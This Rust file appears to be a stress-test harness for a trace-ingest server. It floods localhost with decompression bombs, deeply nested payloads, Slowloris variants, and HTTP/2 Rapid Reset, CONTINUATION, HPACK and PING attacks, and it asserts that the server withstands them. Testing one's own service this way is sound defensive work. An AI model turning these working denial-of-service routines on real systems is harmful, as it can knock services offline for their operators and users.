//! The attacks. Each says what it did; that the server withstood is judged from outside.

use crate::frames::{self, frame};
use crate::{beside, payloads, scale};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

const PROTOBUF: &str = "application/x-protobuf";

/// Posts a body; the answer's status.
async fn post(port: u16, media: &str, encoding: &str, body: &[u8]) -> u16 {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).await.expect("connects");
    let head = format!(
        "POST /v1/traces HTTP/1.1\r\nhost: x\r\ncontent-type: {media}\r\ncontent-encoding: \
         {encoding}\r\nconnection: close\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    // The server may answer before it has read everything.
    let _ = stream.write_all(head.as_bytes()).await;
    let _ = stream.write_all(body).await;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    let text = String::from_utf8_lossy(&answer);
    text.get(9..12).and_then(|code| code.parse().ok()).unwrap_or(0)
}

/// The same from several clients at once; how often each status came.
async fn posts(
    port: u16,
    media: &'static str,
    encoding: &'static str,
    bodies: Vec<Arc<Vec<u8>>>,
    clients: usize,
) -> String {
    let mut running = JoinSet::new();
    let bodies = Arc::new(std::sync::Mutex::new(bodies));
    for _ in 0..clients {
        let bodies = bodies.clone();
        running.spawn(async move {
            let mut seen = Vec::new();
            loop {
                let Some(body) = bodies.lock().expect("lock").pop() else { return seen };
                seen.push(post(port, media, encoding, &body).await);
            }
        });
    }
    let mut counts = std::collections::BTreeMap::new();
    while let Some(seen) = running.join_next().await {
        for status in seen.expect("a client") {
            *counts.entry(status).or_insert(0) += 1;
        }
    }
    assert!(!counts.contains_key(&0), "every request is answered: {counts:?}");
    assert!(!counts.contains_key(&500), "none fails inside: {counts:?}");
    counts.iter().map(|(status, count)| format!("{count} × {status} ")).collect()
}

/// Bombs of 1000:1.
pub async fn bombs(port: u16, encoding: &'static str) -> String {
    let bomb = Arc::new(payloads::bomb(encoding, 256 << 20));
    assert!(bomb.len() < 300_000, "{encoding}: {}", bomb.len());
    let said = posts(port, PROTOBUF, encoding, vec![bomb; 16 * scale()], 8).await;
    assert!(said.contains("413"), "{said}");
    said
}

/// A million levels of values in values.
pub async fn depth(port: u16) -> String {
    let deep = Arc::new(payloads::deep_value(1_000_000));
    posts(port, PROTOBUF, "identity", vec![deep; 4 * scale()], 2).await
}

/// A million levels of lists.
pub async fn json_depth(port: u16) -> String {
    let before = r#"{"resourceSpans":[{"scopeSpans":[{"spans":[{"x":"#;
    let deep = Arc::new([before, &"[".repeat(1_000_000)].concat().into_bytes());
    let said = posts(port, "application/json", "identity", vec![deep; 8 * scale()], 4).await;
    assert!(said.contains("400"), "{said}");
    said
}

/// A million attributes on one span.
pub async fn attributes(port: u16) -> String {
    let many = Arc::new(payloads::many_attributes(1_000_000));
    posts(port, PROTOBUF, "identity", vec![many; 4 * scale()], 2).await
}

/// Names that nobody has seen, over many requests: 40,000 arms, or a million at scale 25.
pub async fn names(port: u16) -> String {
    let bodies = (0..20 * scale()).map(|n| Arc::new(payloads::strange_names(n * 2_000, 2_000)));
    posts(port, PROTOBUF, "identity", bodies.collect(), 2).await
}

/// What a slow client withholds.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Loris {
    Silent,
    Head,
    Body,
    Http2,
    LargeHead,
    LargeFrame,
}

impl Loris {
    fn says(self) -> Vec<u8> {
        let hello = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(frames::SETTINGS, 0, 0, &[])];
        match self {
            Loris::Silent => Vec::new(),
            Loris::Head => b"POST /v1/traces HTTP/1.1\r\nhost: x\r\nx-slow: ".to_vec(),
            Loris::Body => b"POST /v1/traces HTTP/1.1\r\nhost: x\r\ncontent-type: \
                application/x-protobuf\r\ncontent-length: 1000\r\n\r\n\x0a"
                .to_vec(),
            Loris::Http2 => hello.concat(),
            Loris::LargeHead => {
                let head = b"POST /v1/traces HTTP/1.1\r\nhost: x\r\nx-slow: ";
                [&head[..], &[b'a'; 300_000]].concat()
            }
            Loris::LargeFrame => {
                let frame = frames::head(1_000_000, frames::HEADERS, 0, 1);
                [&hello.concat()[..], &frame, &[b'a'; 900_000]].concat()
            }
        }
    }
}

/// As many connections as the system lets one have, up to 10,000; each says as much as it does,
/// then nothing, for seconds.
pub async fn loris(port: u16, kind: Loris) -> String {
    let large = matches!(kind, Loris::LargeHead | Loris::LargeFrame);
    let wished = if large { 1_500 } else { 10_000 };
    let count = wished.min(beside::raise_files() as usize / 2 - 500);
    let says = Arc::new(kind.says());
    let mut open = JoinSet::new();
    let hold = Instant::now() + Duration::from_millis(2_000 + 200 * scale() as u64);
    let turns = Arc::new(tokio::sync::Semaphore::new(200));
    for _ in 0..count {
        let (says, turns) = (says.clone(), turns.clone());
        open.spawn(async move {
            let turn = turns.acquire().await.expect("a turn");
            let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)).await else {
                return false;
            };
            // What is cut off early has been withstood.
            let write = tokio::time::timeout(Duration::from_secs(2), stream.write_all(&says));
            let _ = write.await;
            drop(turn);
            tokio::time::sleep_until(hold.into()).await;
            true
        });
    }
    let mut connected = 0;
    while let Some(one) = open.join_next().await {
        connected += usize::from(one.expect("a connection"));
    }
    assert!(connected > count / 2, "{connected} of {count} connected");
    format!("{connected} connections")
}

/// Writes pieces until the server ends the connection, or it has been enough; how many went out.
async fn until_cut(stream: &mut TcpStream, pieces: impl Iterator<Item = Vec<u8>>) -> (usize, bool) {
    let mut written = 0;
    let mut answer = vec![0; 1 << 16];
    for piece in pieces {
        let write = tokio::time::timeout(Duration::from_secs(2), stream.write_all(&piece)).await;
        if !matches!(write, Ok(Ok(()))) {
            return (written, true);
        }
        written += 1;
        while let Ok(count) = stream.try_read(&mut answer) {
            if count == 0 {
                return (written, true);
            }
        }
    }
    (written, false)
}

/// Requests that are taken back at once: CVE-2023-44487.
pub async fn rapid_reset(port: u16) -> String {
    let mut all = 0;
    let mut cuts = 0;
    for _ in 0..20 * scale() {
        let mut stream = frames::connect(port).await.expect("connects");
        let block = frames::post(&[]);
        let pair = |n: u32| {
            let stream = 2 * n + 1;
            let request = frame(frames::HEADERS, frames::END_HEADERS, stream, &block);
            [request, frame(frames::RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat()
        };
        let pieces = (0..200).map(|n| (n * 50..n * 50 + 50).flat_map(pair).collect());
        let (written, cut) = until_cut(&mut stream, pieces).await;
        (all, cuts) = (all + written * 50, cuts + usize::from(cut));
    }
    assert!(cuts > 0, "nobody was cut off");
    format!("{all} resets, {cuts} of {} connections cut", 20 * scale())
}

/// Headers without an end: CVE-2024-27316 and others.
pub async fn continuation(port: u16) -> String {
    let (mut all, mut cuts) = (0, 0);
    for _ in 0..10 * scale() {
        let mut stream = frames::connect(port).await.expect("connects");
        let first = frame(frames::HEADERS, 0, 1, &frames::post(&[]));
        let header = [&[0, 1, b'a', 126][..], &[b'b'; 126]].concat().repeat(100);
        let more = (0..2_000).map(|_| frame(frames::CONTINUATION, 0, 1, &header));
        let (written, cut) = until_cut(&mut stream, std::iter::once(first).chain(more)).await;
        (all, cuts) = (all + written, cuts + usize::from(cut));
    }
    assert_eq!(cuts, 10 * scale(), "every one is cut off");
    format!("{all} frames, {cuts} connections cut")
}

/// As many requests as a connection may have, with as many headers as they may have, whose bodies
/// never come. HPACK makes each a few bytes on the wire.
pub async fn open_streams(port: u16) -> String {
    let mut held = Vec::new();
    for _ in 0..100 * scale().min(10) {
        let Ok(mut stream) = frames::connect(port).await else { continue };
        // Into the dynamic table once; then 190 times by its number, in every request.
        let first = [&[0x40, 1, b'a', 8][..], &[b'b'; 8]].concat();
        let mut block = [frames::post(&[]), first].concat();
        block.extend([0x80 | 62; 190]);
        let pieces = (0..100).map(|n| {
            let id = 2 * n + 1;
            frame(frames::HEADERS, frames::END_HEADERS, id, &block)
        });
        until_cut(&mut stream, pieces).await;
        held.push(stream);
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    format!("{} connections × 100 streams", held.len())
}

/// Frames that want an answer, from one who reads none.
pub async fn pings(port: u16) -> String {
    let mut all = 0;
    for _ in 0..10 * scale() {
        let mut stream = frames::connect(port).await.expect("connects");
        let piece = [frame(frames::PING, 0, 0, &[7; 8]), frame(frames::SETTINGS, 0, 0, &[])];
        let piece = piece.concat().repeat(500);
        for _ in 0..100 {
            let write = stream.write_all(&piece);
            let write = tokio::time::timeout(Duration::from_millis(300), write).await;
            if !matches!(write, Ok(Ok(()))) {
                break;
            }
            all += 1_000;
        }
    }
    format!("{all} frames")
}
